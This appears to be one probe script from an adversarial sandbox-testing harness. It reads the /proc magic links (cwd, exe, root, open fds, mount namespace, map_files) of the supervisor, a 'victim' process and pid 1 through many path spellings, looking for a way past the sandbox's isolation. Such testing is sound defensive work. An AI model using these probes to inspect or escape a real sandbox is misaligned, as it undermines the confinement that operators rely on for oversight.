# technique: readlink the magic links of processes outside the sandbox (the supervisor, the victim, pid 1) under every /proc spelling: /proc/<pid>/{cwd,exe,root,fd/N,ns/mnt,map_files}, the task/<tid> form with the supervisor's other threads, /proc/self/../<pid>, //proc, a dirfd of /proc/<pid> (readlinkat via python dir_fd), and readlink -f through them
# requires: python3
. ./.adv/world.env
sup=$PPID
up=$(awk '/^PPid:/{print $2}' /proc/$sup/status 2>/dev/null || echo 1)
echo "parent $sup its parent ${up:-?} victim $VICTIM_PID"
for pid in $sup ${up:-1} $VICTIM_PID 1; do
	tids=$(ls /proc/$pid/task 2>&1 | head -5)
	for base in /proc/$pid //proc/$pid /proc/self/../$pid /proc/./$pid $(for t in $tids; do echo /proc/$pid/task/$t /proc/$t; done); do
		for e in cwd exe root fd/0 fd/1 fd/2 fd/3 fd/4 fd/5 ns/mnt; do
			r=$(readlink "$base/$e" 2>&1) && echo "LINK $base/$e -> $r"
		done
	done
	python3 - "$pid" <<'PY'
import os, sys
pid = sys.argv[1]
try:
    d = os.open("/proc/" + pid, os.O_PATH | os.O_DIRECTORY)
except OSError as e:
    print("dirfd", e); sys.exit()
for e in ("cwd", "exe", "root", "fd/0", "fd/3", "task"):
    try:
        print("LINK dirfd", pid, e, os.readlink(e, dir_fd=d))
    except OSError as x:
        print("dirfd", pid, e, x)
try:
    print("map_files", os.listdir("/proc/%s/map_files" % pid)[:3])
except OSError as x:
    print("map_files", x)
PY
done
readlink -f /proc/$sup/cwd/.. 2>&1
